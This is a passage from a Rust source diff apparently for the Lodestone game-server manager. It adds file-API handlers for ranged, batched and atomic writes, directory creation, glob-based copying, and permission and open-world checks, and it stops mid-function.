+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    let body = normalize_line_endings(body, line_endings_query.line_endings);
+    if uuid.to_string().starts_with("DOCKER-") {
+        if compress_query.compress.is_some() {
+            return Err(Error {
+                kind: ErrorKind::UnsupportedOperation,
+                source: eyre!("Compressed writes are not supported for docker instances"),
+            });
+        }
+        state
+            .docker_bridge
+            .write_container_file(&uuid, relative_path.into(), &body)
+            .await?;
+        return Ok(Json(WriteInstanceFileResponse {
+            bytes_written: body.len() as u64,
+            file_size: body.len() as u64,
+        }));
+    }
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    let open_worlds = open_world_dirs(instance.state().await, &root).await;
+    drop(instance);
+    let path = scoped_join_win_safe(&root, relative_path)?;
+    let path = match compress_query.compress {
+        Some(WriteCompression::Gzip) => gzipped_path(&path),
+        None => path,
+    };
+    check_world_not_open(
+        &requester,
+        &open_worlds,
+        [path.as_path()],
+        world_query.force,
+        "writing to",
+    )?;
+    // if target has a protected extension, or no extension, deny
+    if is_path_protected_for(&requester, &read_protected_paths(&root).await, &path) {
+        return Err(Error {
+            kind: ErrorKind::PermissionDenied,
+            source: eyre!("You don't have permission to write to this file"),
+        });
+    }
+    check_in_writable_paths(&requester, &root, [path.as_path()]).await?;
+    check_path_length(&path)?;
+    let response = match compress_query.compress {
+        Some(WriteCompression::Gzip) => {
+            let bytes_written = body.len() as u64;
+            let compressed = gzip(body).await?;
+            WriteInstanceFileResponse {
+                bytes_written,
+                ..write_file_and_report(&path, &compressed).await?
+            }
+        }
+        None => write_file_and_report(&path, &body).await?,
+    };
+
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    state.event_broadcaster.send(new_fs_event(
+        FSOperation::Write,
+        FSTarget::File(path),
+        caused_by,
+    ));
+    Ok(Json(response))
+}
+
+/// Parse a `Content-Range: bytes <start>-<end>/<total | *>` header, returns the first byte and
+/// the length of the range
+fn parse_content_range(header: &str) -> Result<(u64, u64), Error> {
+    let invalid = || Error {
+        kind: ErrorKind::BadRequest,
+        source: eyre!("Invalid Content-Range header, expected bytes <start>-<end>/<total>"),
+    };
+    let (range, total) = header
+        .trim()
+        .strip_prefix("bytes ")
+        .and_then(|range| range.split_once('/'))
+        .ok_or_else(invalid)?;
+    let (start, end) = range.split_once('-').ok_or_else(invalid)?;
+    let start: u64 = start.trim().parse().map_err(|_| invalid())?;
+    let end: u64 = end.trim().parse().map_err(|_| invalid())?;
+    if end < start {
+        return Err(invalid());
+    }
+    if total.trim() != "*" {
+        let total: u64 = total.trim().parse().map_err(|_| invalid())?;
+        if end >= total {
+            return Err(invalid());
+        }
+    }
+    // `end` is at least `start`, only the inclusive end can overflow
+    let length = (end - start).checked_add(1).ok_or_else(invalid)?;
+    Ok((start, length))
+}
+
+/// Overwrite `body.len()` bytes of an existing file starting at `start`, the file grows if the
+/// range goes past its end. A range starting past the end would leave a hole of zeroes, it is
+/// refused unless `allow_holes` is set
+async fn write_file_range(
+    path: &std::path::Path,
+    start: u64,
+    body: &[u8],
+    allow_holes: bool,
+) -> Result<WriteInstanceFileResponse, Error> {
+    if !path.is_file() {
+        return Err(Error {
+            kind: ErrorKind::NotFound,
+            source: eyre!("File not found"),
+        });
+    }
+    let mut file = tokio::fs::OpenOptions::new()
+        .write(true)
+        .open(path)
+        .await
+        .context("Failed to open file")?;
+    let file_size = file
+        .metadata()
+        .await
+        .context("Failed to read file metadata")?
+        .len();
+    let range_end = start.checked_add(body.len() as u64).ok_or_else(|| Error {
+        kind: ErrorKind::BadRequest,
+        source: eyre!("Range starting at byte {start} ends past the largest file size"),
+    })?;
+    if start > file_size && !allow_holes {
+        return Err(Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!(
+                "Range starts at byte {start} but the file is only {file_size} bytes long"
+            ),
+        });
+    }
+    file.seek(std::io::SeekFrom::Start(start))
+        .await
+        .context("Failed to seek in file")?;
+    file.write_all(body)
+        .await
+        .context("Failed to write to file")?;
+    file.flush().await.context("Failed to flush file")?;
+    Ok(WriteInstanceFileResponse {
+        bytes_written: body.len() as u64,
+        file_size: file_size.max(range_end),
+    })
+}
+
+#[derive(Deserialize)]
+struct WriteRangeQuery {
+    #[serde(default)]
+    allow_holes: bool,
+}
+
+async fn write_instance_file_range(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(world_query): Query<OpenWorldQuery>,
+    Query(range_query): Query<WriteRangeQuery>,
+    AuthBearer(token): AuthBearer,
+    headers: HeaderMap,
+    body: Bytes,
+) -> Result<Json<WriteInstanceFileResponse>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    let (start, length) = parse_content_range(
+        headers
+            .get(CONTENT_RANGE)
+            .ok_or_else(|| Error {
+                kind: ErrorKind::BadRequest,
+                source: eyre!("Missing Content-Range header"),
+            })?
+            .to_str()
+            .context("Invalid Content-Range header")?,
+    )?;
+    if length != body.len() as u64 {
+        return Err(Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!(
+                "Content-Range covers {length} bytes but the body is {} bytes",
+                body.len()
+            ),
+        });
+    }
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    let open_worlds = open_world_dirs(instance.state().await, &root).await;
+    drop(instance);
+    let path = scoped_join_win_safe(&root, relative_path)?;
+    check_world_not_open(
+        &requester,
+        &open_worlds,
+        [path.as_path()],
+        world_query.force,
+        "writing to",
+    )?;
+    if is_path_protected_for(&requester, &read_protected_paths(&root).await, &path) {
+        return Err(Error {
+            kind: ErrorKind::PermissionDenied,
+            source: eyre!("You don't have permission to write to this file"),
+        });
+    }
+    check_in_writable_paths(&requester, &root, [path.as_path()]).await?;
+    let response = write_file_range(&path, start, &body, range_query.allow_holes).await?;
+
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    state.event_broadcaster.send(new_fs_event(
+        FSOperation::Write,
+        FSTarget::File(path),
+        caused_by,
+    ));
+    Ok(Json(response))
+}
+
+#[derive(Deserialize, TS)]
+#[ts(export)]
+struct BatchWriteEntry {
+    path: PathBuf,
+    content: String,
+}
+
+fn temp_file_next_to(
+    path: &std::path::Path,
+    prefix: &str,
+) -> Result<tempfile::NamedTempFile, Error> {
+    let dir = path.parent().ok_or_else(|| Error {
+        kind: ErrorKind::BadRequest,
+        source: eyre!("Path {} has no parent directory", path.display()),
+    })?;
+    tempfile::Builder::new()
+        .prefix(prefix)
+        .tempfile_in(dir)
+        .context(format!(
+            "Failed to create temporary file next to {}",
+            path.display()
+        ))
+        .map_err(Into::into)
+}
+
+/// Move the staged file onto `path`, the file it replaces is kept aside in `replaced` so it can
+/// be put back
+fn replace_with_staged<'a>(
+    path: &'a std::path::Path,
+    staged: tempfile::TempPath,
+    replaced: &mut Vec<(&'a std::path::Path, Option<tempfile::TempPath>)>,
+) -> Result<(), Error> {
+    let previous = if path.exists() {
+        let previous = temp_file_next_to(path, ".write-batch-previous-")?.into_temp_path();
+        std::fs::rename(path, &previous)
+            .context(format!("Failed to replace {}", path.display()))?;
+        Some(previous)
+    } else {
+        None
+    };
+    let persisted = staged.persist(path);
+    replaced.push((path, previous));
+    persisted.context(format!("Failed to write {}", path.display()))?;
+    Ok(())
+}
+
+/// Put back the files replaced by `replace_with_staged`, latest first
+fn roll_back_replaced(replaced: Vec<(&std::path::Path, Option<tempfile::TempPath>)>) {
+    for (path, previous) in replaced.into_iter().rev() {
+        let restored = match previous {
+            Some(previous) => previous.persist(path).map_err(|e| e.error),
+            None => std::fs::remove_file(path),
+        };
+        if let Err(e) = restored {
+            error!("Failed to roll back {}: {e}", path.display());
+        }
+    }
+}
+
+/// Write every file or none of them. The contents are written to temporary files next to their
+/// targets before any target is touched, then renamed into place. The files replaced are kept
+/// aside until the last rename, a failure puts them all back
+fn write_files_atomically(files: &[(PathBuf, Vec<u8>)]) -> Result<(), Error> {
+    let mut staged = Vec::with_capacity(files.len());
+    for (path, content) in files {
+        if path.is_dir() {
+            return Err(Error {
+                kind: ErrorKind::BadRequest,
+                source: eyre!("{} is a directory", path.display()),
+            });
+        }
+        let mut temp = temp_file_next_to(path, ".write-batch-")?;
+        std::io::Write::write_all(&mut temp, content)
+            .and_then(|_| temp.as_file().sync_all())
+            .context(format!("Failed to write {}", path.display()))?;
+        staged.push((path, temp.into_temp_path()));
+    }
+
+    let mut replaced = Vec::with_capacity(files.len());
+    let mut result = Ok(());
+    for (path, temp) in staged {
+        result = replace_with_staged(path, temp, &mut replaced);
+        if result.is_err() {
+            break;
+        }
+    }
+    if result.is_err() {
+        roll_back_replaced(replaced);
+    }
+    result
+}
+
+/// Join the paths of a batch to the root, a path can only be written once per batch
+fn resolve_batch(
+    root: &std::path::Path,
+    entries: Vec<BatchWriteEntry>,
+) -> Result<Vec<(PathBuf, Vec<u8>)>, Error> {
+    let mut files: Vec<(PathBuf, Vec<u8>)> = Vec::with_capacity(entries.len());
+    for entry in entries {
+        let path = scoped_join_win_safe(root, &entry.path)?;
+        ensure_not_instance_root(root, &path, "overwrite")?;
+        check_path_length(&path)?;
+        if files.iter().any(|(other, _)| other == &path) {
+            return Err(Error {
+                kind: ErrorKind::BadRequest,
+                source: eyre!("{} is written more than once", entry.path.display()),
+            });
+        }
+        files.push((path, entry.content.into_bytes()));
+    }
+    Ok(files)
+}
+
+/// Write several files at once, all of them are written or none are
+async fn write_instance_files_batch(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path(uuid): Path<InstanceUuid>,
+    Query(world_query): Query<OpenWorldQuery>,
+    AuthBearer(token): AuthBearer,
+    Json(entries): Json<Vec<BatchWriteEntry>>,
+) -> Result<Json<()>, Error> {
+    let requester = authorize(&state, &token).await?;
+    let max_paths = state.global_settings.lock().await.max_fs_request_paths();
+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    let relative_paths: Vec<PathBuf> = entries.iter().map(|entry| entry.path.clone()).collect();
+    check_source_path_count(&relative_paths, max_paths)?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    let open_worlds = open_world_dirs(instance.state().await, &root).await;
+    drop(instance);
+
+    let files = resolve_batch(&root, entries)?;
+    let paths = || files.iter().map(|(path, _)| path.as_path());
+    check_world_not_open(
+        &requester,
+        &open_worlds,
+        paths(),
+        world_query.force,
+        "writing to",
+    )?;
+    check_paths_writable(&requester, &read_protected_paths(&root).await, paths())?;
+    check_in_writable_paths(&requester, &root, paths()).await?;
+
+    let paths: Vec<PathBuf> = paths().map(|path| path.to_owned()).collect();
+    tokio::task::spawn_blocking(move || write_files_atomically(&files))
+        .await
+        .context("Failed to write files")??;
+
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    for path in paths {
+        state.event_broadcaster.send(new_fs_event(
+            FSOperation::Write,
+            FSTarget::File(path),
+            caused_by.clone(),
+        ));
+    }
+    Ok(Json(()))
+}
+
+async fn make_instance_directory(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(world_query): Query<OpenWorldQuery>,
+    AuthBearer(token): AuthBearer,
+) -> Result<Json<()>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    let open_worlds = open_world_dirs(instance.state().await, &root).await;
+    drop(instance);
+    let path = scoped_join_win_safe(&root, relative_path)?;
+    check_dir_not_in_open_world(&requester, &open_worlds, &path, world_query.force)?;
+    check_in_writable_paths(&requester, &root, [path.as_path()]).await?;
+    // create the file if it doesn't exist
+    crate::util::fs::create_dir_all(&path).await?;
+
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    state.event_broadcaster.send(new_fs_event(
+        FSOperation::Create,
+        FSTarget::Directory(path),
+        caused_by,
+    ));
+    Ok(Json(()))
+}
+
+#[derive(Deserialize, TS)]
+#[ts(export)]
+struct CopyInstanceFileRequest {
+    relative_paths_source: Vec<PathBuf>,
+    relative_path_dest: PathBuf,
+}
+
+// body limit of the requests listing paths, generous for `max_fs_request_paths` paths
+const PATH_LIST_BODY_LIMIT: usize = 4 * 1024 * 1024;
+
+/// Reject empty path lists and lists longer than the `max_fs_request_paths` global setting
+fn check_source_path_count(paths: &[PathBuf], max: u32) -> Result<(), Error> {
+    if paths.is_empty() {
+        return Err(Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!("No source paths given"),
+        });
+    }
+    if paths.len() > max as usize {
+        return Err(Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!(
+                "Too many source paths, got {} but at most {max} are allowed per request",
+                paths.len()
+            ),
+        });
+    }
+    Ok(())
+}
+
+fn is_glob_pattern(path: &std::path::Path) -> bool {
+    path.to_string_lossy()
+        .contains(|c| matches!(c, '*' | '?' | '[' | '{'))
+}
+
+/// Files and directories under the root matching a glob relative to it, `*` doesn't cross `/`
+/// while `**` does. The walk stops after `limit` matches
+fn expand_glob(
+    root: &std::path::Path,
+    pattern: &std::path::Path,
+    limit: usize,
+) -> Result<Vec<PathBuf>, Error> {
+    let escapes = || Error {
+        kind: ErrorKind::BadRequest,
+        source: eyre!("Pattern {} escapes the instance", pattern.display()),
+    };
+    let components = pattern
+        .components()
+        .filter_map(|component| match component {
+            Component::Normal(part) => Some(part.to_str().ok_or_else(|| Error {
+                kind: ErrorKind::BadRequest,
+                source: eyre!("Pattern {} is not valid UTF-8", pattern.display()),
+            })),
+            Component::CurDir => None,
+            _ => Some(Err(escapes())),
+        })
+        .collect::<Result<Vec<_>, _>>()?;
+    let matcher = globset::GlobBuilder::new(&components.join("/"))
+        .literal_separator(true)
+        .build()
+        .context(format!("Invalid pattern {}", pattern.display()))?
+        .compile_matcher();
+    // only the part of the tree the pattern can match is walked
+    let literal_prefix = components
+        .iter()
+        .take_while(|component| !is_glob_pattern(std::path::Path::new(component)))
+        .count();
+    let max_depth = if components[literal_prefix..].contains(&"**") {
+        usize::MAX
+    } else {
+        components.len() - literal_prefix
+    };
+    let base = components[..literal_prefix]
+        .iter()
+        .fold(root.to_path_buf(), |base, component| base.join(component));
+    Ok(WalkDir::new(base)
+        .min_depth(1)
+        .max_depth(max_depth)
+        .into_iter()
+        .filter_map(|entry| entry.ok())
+        .filter(|entry| {
+            entry
+                .path()
+                .strip_prefix(root)
+                .map(|relative| matcher.is_match(relative))
+                .unwrap_or(false)
+        })
+        .take(limit)
+        .map(|entry| entry.into_path())
+        .collect())
+}
+
+/// Join the source paths of a batch to the root, expanding glob patterns like `config/*.json`.
+/// A path that exists is taken literally even if it looks like a pattern, e.g. `world [old]`.
+/// A pattern matching nothing is an error, and so is matching more than `max` paths in total
+fn expand_source_paths(
+    root: &std::path::Path,
+    relative_paths: &[PathBuf],
+    max: u32,
+) -> Result<Vec<PathBuf>, Error> {
+    let mut seen = std::collections::HashSet::new();
+    let mut paths = Vec::new();
+    for relative_path in relative_paths {
+        let existing = scoped_join_win_safe(root, relative_path)
+            .ok()
+            .filter(|path| path.exists());
+        let expanded = if let Some(path) = existing {
+            vec![path]
+        } else if is_glob_pattern(relative_path) {
+            // one match past the limit is enough to refuse the batch
+            let matches = expand_glob(root, relative_path, max as usize + 1)?;
+            if matches.is_empty() {
+                return Err(Error {
+                    kind: ErrorKind::BadRequest,
+                    source: eyre!("No files match {}", relative_path.display()),
+                });
+            }
+            matches
+        } else {
+            vec![scoped_join_win_safe(root, relative_path)?]
+        };
+        for path in expanded {
+            if seen.insert(path.clone()) {
+                paths.push(path);
+            }
+        }
+        if paths.len() > max as usize {
+            return Err(Error {
+                kind: ErrorKind::BadRequest,
+                source: eyre!(
+                    "The source paths match more than {max} files, at most {max} are allowed per request"
+                ),
+            });
+        }
+    }
+    Ok(paths)
+}
+
+/// Reject operations that would clobber or relocate the instance root itself
+fn ensure_not_instance_root(
+    root: &std::path::Path,
+    path: &std::path::Path,
+    action: &str,
+) -> Result<(), Error> {
+    if path == root {
+        return Err(Error {
+            kind: ErrorKind::PermissionDenied,
+            source: eyre!("Cannot {action} instance root"),
+        });
+    }
+    Ok(())
+}
+
+/// The persisted console is only written by Lodestone and only removed by disabling it, for
+/// every user
+fn check_not_console_log(root: &std::path::Path, path: &std::path::Path) -> Result<(), Error> {
+    if is_in_console_log_dir(root, path) {
+        return Err(Error {
+            kind: ErrorKind::PermissionDenied,
+            source: eyre!("The console log can't be written, moved or deleted, disable it instead"),
+        });
+    }
+    Ok(())
+}
+
+/// Protected paths need the global file permission, it is looked up once for the whole batch
+fn check_paths_writable<'a>(
+    requester: &AuthorizedUser,
+    protected: &ProtectedPaths,
+    paths: impl IntoIterator<Item = &'a std::path::Path>,
+) -> Result<(), Error> {
+    if requester.can_perform_action(&UserAction::WriteGlobalFile) {
+        return Ok(());
+    }
+    match paths
+        .into_iter()
+        .find(|path| is_path_protected(protected, path))
+    {
+        Some(path) => Err(Error {
+            kind: ErrorKind::PermissionDenied,
+            source: eyre!("You don't have permission to write to {}", path.display()),
+        }),
+        None => Ok(()),
+    }
+}
+
+/// Writes outside of the instance's writable paths need the global file permission, the console
+/// log can't be written at all
+async fn check_in_writable_paths<'a>(
+    requester: &User,
+    root: &std::path::Path,
+    paths: impl IntoIterator<Item = &'a std::path::Path>,
+) -> Result<(), Error> {
+    let paths: Vec<&std::path::Path> = paths.into_iter().collect();
+    for path in &paths {
+        check_not_console_log(root, path)?;
+    }
+    if requester.can_perform_action(&UserAction::WriteGlobalFile) {
+        return Ok(());
+    }
+    read_writable_paths(root).await.check(root, paths)
+}
+
+#[derive(Deserialize, Default, Debug, Clone)]
+struct OpenWorldQuery {
+    /// write into the world of a running server anyway, needs the global file permission
+    #[serde(default)]
+    force: bool,
+}
+
+/// World directories the server has open unless it is stopped, from the `level-name` of its
+/// server.properties. Bukkit based servers keep the nether and the end next to the overworld
+async fn open_world_dirs(state: State, root: &std::path::Path) -> Vec<PathBuf> {
+    if state == State::Stopped {
+        return Vec::new();
+    }
+    world_dirs(root).await
+}
+
+/// The world of the instance as named by `level-name`, with its nether and end
+async fn world_dirs(root: &std::path::Path) -> Vec<PathBuf> {
+    let Ok(properties) = read_properties_from_path(&root.join("server.properties")).await else {
+        return Vec::new();
+    };
+    let level_name = properties
+        .get("level-name")
+        .map(|name| name.trim())
+        .filter(|name| !name.is_empty())
+        .unwrap_or("world");
+    let Ok(world) = scoped_join_win_safe(root, level_name) else {
+        return Vec::new();
+    };
+    if world == root {
+        return Vec::new();
+    }
+    // the level name can point into a subdirectory
+    let Some(world_name) = world
+        .file_name()
+        .map(|name| name.to_string_lossy().into_owned())
+    else {
+        return Vec::new();
+    };
+    vec![
+        world.with_file_name(format!("{world_name}_nether")),
+        world.with_file_name(format!("{world_name}_the_end")),
+        world,
+    ]
+}
+
+/// Writing into or deleting the world of a running server, or replacing or deleting a directory
+/// holding it, can corrupt the save, it is refused unless forced by a user with the global file
+/// permission. `action` is what is done to `paths`, as the refusal names it
+fn check_world_not_open<'a>(
+    requester: &User,
+    open_worlds: &[PathBuf],
+    paths: impl IntoIterator<Item = &'a std::path::Path>,
+    force: bool,
+    action: &str,
+) -> Result<(), Error> {
+    let Some(world) = paths.into_iter().find_map(|path| {
+        open_worlds
+            .iter()
+            .find(|world| path.starts_with(world) || world.starts_with(path))
+    }) else {
+        return Ok(());
+    };
+    refuse_open_world(requester, world, force, action)
+}
+
+/// Adding entries to a directory touches the world only when the directory is inside it, an
+/// entry landing next to the world gets a name of its own or is checked on its own
+fn check_dir_not_in_open_world(
+    requester: &User,
+    open_worlds: &[PathBuf],
+    dir: &std::path::Path,
+    force: bool,
+) -> Result<(), Error> {
+    let Some(world) = open_worlds.iter().find(|world| dir.starts_with(world)) else {
+        return Ok(());
+    };
+    refuse_open_world(requester, world, force, "writing to")
+}
+
+fn refuse_open_world(
+    requester: &User,
+    world: &std::path::Path,
+    force: bool,
+    action: &str,
+) -> Result<(), Error> {
+    let world_name = world
+        .file_name()
+        .map(|name| name.to_string_lossy().into_owned())
+        .unwrap_or_default();
+    if force && requester.can_perform_action(&UserAction::WriteGlobalFile) {
+        warn!(
+            "{} is {action} {world_name} while the server has it open",
+            requester.username
+        );
+        return Ok(());
+    }
+    Err(Error {
+        kind: ErrorKind::Conflict,
+        source: eyre!(
+            "The server is running with {world_name} open, {action} it can corrupt the save. Stop the instance first or retry with force"
+        ),
+    })
+}
+
+// directories above this many entries are kept by a locked instance
+const LOCKED_RMDIR_MAX_ENTRIES: usize = 1000;
+
+/// A locked instance keeps its worlds, `action` is refused on any path in or holding one
+fn check_locked_worlds<'a>(
+    worlds: &[PathBuf],
+    paths: impl IntoIterator<Item = &'a std::path::Path>,
+    action: &str,
+) -> Result<(), Error> {
+    let Some(world) = paths.into_iter().find_map(|path| {
+        worlds
+            .iter()
+            .find(|world| path.starts_with(world) || world.starts_with(path))
+    }) else {
+        return Ok(());
+    };
+    Err(instance_locked(&format!(
+        "{action} {}",
+        world.file_name().unwrap_or_default().to_string_lossy()
+    )))
+}
+
+/// A locked instance keeps its worlds and any large directory
+async fn check_locked_dir_removal(worlds: &[PathBuf], path: &std::path::Path) -> Result<(), Error> {
+    check_locked_worlds(worlds, [path], "deleting")?;
+    let entries = {
+        let path = path.to_owned();
+        tokio::task::spawn_blocking(move || {
+            WalkDir::new(path)
+                .into_iter()
+                .take(LOCKED_RMDIR_MAX_ENTRIES + 1)
+                .count()
+        })
+        .await
+        .context("Failed to count directory entries")?
+    };
+    if entries > LOCKED_RMDIR_MAX_ENTRIES {
+        return Err(instance_locked(&format!(
+            "deleting a directory of more than {LOCKED_RMDIR_MAX_ENTRIES} entries"
+        )));
+    }
+    Ok(())
+}
+
+fn check_copy_paths(
+    root: &std::path::Path,
+    paths_source: &[PathBuf],
+    path_dest: &std::path::Path,
+) -> Result<(), Error> {
+    for path_source in paths_source {
+        ensure_not_instance_root(root, path_source, "copy")?;
+    }
+    // if the destination path is a subdirectory of any of the source paths, deny
+    if paths_source.iter().any(|p| path_dest.starts_with(p)) {
+        return Err(Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!("You can't copy a directory to a subdirectory of itself"),
+        });
+    }
+    Ok(())
+}
+
+fn check_move_paths(
+    root: &std::path::Path,
+    path_source: &std::path::Path,
+    path_dest: &std::path::Path,
+) -> Result<(), Error> {
+    ensure_not_instance_root(root, path_source, "move")?;
+    // moving onto the root would rename the source next to it, outside of the instance
+    ensure_not_instance_root(root, path_dest, "overwrite")?;
+    // if the destination is a subdirectory of the source, we reject the request
+    if path_dest.starts_with(path_source) {
+        return Err(Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!("You can't move a directory into itself or one of its subdirectories"),
+        });
+    }
+    Ok(())
+}
+
+/// Deny moving a protected file or directory, or a directory containing protected files, for users
+/// who can't write global files
+async fn check_move_writable(
+    requester: &User,
+    protected: &ProtectedPaths,
+    path_source: &std::path::Path,
+    path_dest: &std::path::Path,
+) -> Result<(), Error> {
+    if requester.can_perform_action(&UserAction::WriteGlobalFile) {
+        return Ok(());
+    }
+    let source_is_dir = path_source.is_dir();
+    // the destination doesn't exist yet, it is protected as what is moved there
+    if is_protected_as(protected, path_source, source_is_dir)
+        || is_protected_as(protected, path_dest, source_is_dir)
+    {
+        return Err(Error {
+            kind: ErrorKind::PermissionDenied,
+            source: eyre!("You don't have permission to write to this file"),
+        });
+    }
+    if source_is_dir {
+        check_no_protected_files(protected, path_source).await?;
+    }
+    Ok(())
+}
+
+/// Deny if any file under `dir` is protected
+async fn check_no_protected_files(
+    protected: &ProtectedPaths,
+    dir: &std::path::Path,
+) -> Result<(), Error> {
+    let protected = protected.clone();
+    let dir = dir.to_owned();
+    // recursively access all files in the directory and check if they are protected
+    tokio::task::spawn_blocking(move || {
+        for entry in WalkDir::new(dir) {
+            let entry =
+                entry.context("Failed to walk directory while scanning for protected files")?;
+            if entry.file_type().is_file() && is_path_protected(&protected, entry.path()) {
+                return Err(Error {
+                    kind: ErrorKind::PermissionDenied,
+                    source: eyre!("Directory contains protected files"),
+                });
+            }
+        }
+        Ok(())
+    })
+    .await
+    .context("Failed to scan for protected files")?
+}
+
+async fn copy_instance_files(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path(uuid): Path<InstanceUuid>,
+    Query(world_query): Query<OpenWorldQuery>,
+    AuthBearer(token): AuthBearer,
+    Json(CopyInstanceFileRequest {
+        relative_paths_source,
+        relative_path_dest,
+    }): Json<CopyInstanceFileRequest>,
+) -> Result<Json<()>, Error> {
+    let requester = authorize(&state, &token).await?;
+    let max_paths = state.global_settings.lock().await.max_fs_request_paths();
+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    check_source_path_count(&relative_paths_source, max_paths)?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    let open_worlds = open_world_dirs(instance.state().await, &root).await;
+    drop(instance);
+    // join each path to the root, globs are expanded against it
+    let paths_source = {
+        let root = root.clone();
+        tokio::task::spawn_blocking(move || {
+            expand_source_paths(&root, &relative_paths_source, max_paths)
+        })
+        .await
+        .context("Failed to expand source paths")??
+    };
+
+    let path_dest = scoped_join_win_safe(&root, &relative_path_dest)?;
+    check_dir_not_in_open_world(&requester, &open_worlds, &path_dest, world_query.force)?;
+    check_paths_writable(
+        &requester,
+        &read_protected_paths(&root).await,
+        [path_dest.as_path()],
+    )?;
+    check_in_writable_paths(&requester, &root, [path_dest.as_path()]).await?;
+
+    check_copy_paths(&root, &paths_source, &path_dest)?;
+
+    let event_broadcaster = state.event_broadcaster.clone();
+    let user_id = requester.uid.clone();
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+
+    let fs_op_limiter = state.fs_op_limiter.clone();
+    let upload_sessions = state.upload_sessions.clone();
+
+    tokio::spawn(in_current_request(async move {
+        // the total is known up front so the progression can show as queued
+        let total_bytes = {
+            let paths_source = paths_source.clone();
+            tokio::task::spawn_blocking(move || tree_size(&paths_source).bytes)
+                .await
+                .unwrap_or_default()
+        };
+        let (progression_event_start, progression_event_id) = Event::new_progression_event_start(
+            "Copying files(s)",
+            Some(total_bytes as f64),
+            None,
+            caused_by.clone(),
+        );
+        let session = upload_sessions.register(progression_event_id.inner(), uuid.clone(), user_id);
+        event_broadcaster.send(progression_event_start);
+        let _permit = match acquire_fs_op_slot(
+            &fs_op_limiter,
+            &event_broadcaster,
+            &progression_event_id,
+            &uuid,
+            &caused_by,
+            &session.cancel,
+        )
+        .await
+        {
+            Ok(permit) => permit,
+            Err(e) => {
+                event_broadcaster.send(fs_operation_end_event(
+                    progression_event_id,
+                    &uuid,
+                    &caused_by,
+                    false,
+                    format!("Error copying file(s): {}", e),
+                ));
+                return;
+            }
+        };
+        // started once the slot is acquired, waiting on other operations isn't slow storage
+        let mut timer = FsOpTimer::start(FsOpKind::Copy, Some(uuid.clone()));
+
+        let result = tokio::task::spawn_blocking({
+            let event_broadcaster = event_broadcaster.clone();
+            let progression_event_id = progression_event_id.clone();
+            let caused_by = caused_by.clone();
+            let cancel = session.cancel.clone();
+            move || {
+                let mut throttle = ProgressThrottle::new(Some(total_bytes));
+                let tmp_dir = tempfile::tempdir_in(path_to_tmp())
+                    .context("Failed to create temporary file")?;
+                let temp_dir_path = tmp_dir.path().to_owned();
+
+                // copied file by file into the temporary directory, a cancelled copy stops
+                // before the next file and leaves nothing at the destination
+                let mut copied_bytes = 0;
+                for path_source in &paths_source {
+                    let copied_before = copied_bytes;
+                    let mut on_progress = |copied: u64, file: &std::path::Path| {
+                        let copied = copied_before + copied;
+                        if let Some(progressed) = throttle.report(copied) {
+                            event_broadcaster.send(
+                                Event::new_progression_event_update(
+                                    &progression_event_id,
+                                    format!(
+                                        "Copying file {}, {}",
+                                        file.display(),
+                                        format_byte_download(copied, total_bytes)
+                                    ),
+                                    progressed as f64,
+                                )
+                                .with_caused_by(caused_by.clone()),
+                            );
+                        }
+                    };
+                    let name = path_source.file_name().context(format!(
+                        "Failed to get file name of {}",
+                        path_source.display()
+                    ))?;
+                    let temp_path = resolve_path_conflict(temp_dir_path.join(name), None);
+                    copied_bytes += if path_source.is_dir() {
+                        copy_dir_verified_cancellable(
+                            path_source,
+                            &temp_path,
+                            &mut on_progress,
+                            &cancel,
+                        )?
+                    } else {
+                        if cancel.is_cancelled() {
+                            return Err(operation_cancelled());
+                        }
+                        let copied = std::fs::copy(path_source, &temp_path)
+                            .context(format!("Failed to copy {}", path_source.display()))?;
+                        on_progress(copied, std::path::Path::new(name));
+                        copied
+                    };
+                }
+                if cancel.is_cancelled() {
+                    return Err(operation_cancelled());
+                }
+
+                for temp_path in std::fs::read_dir(temp_dir_path)
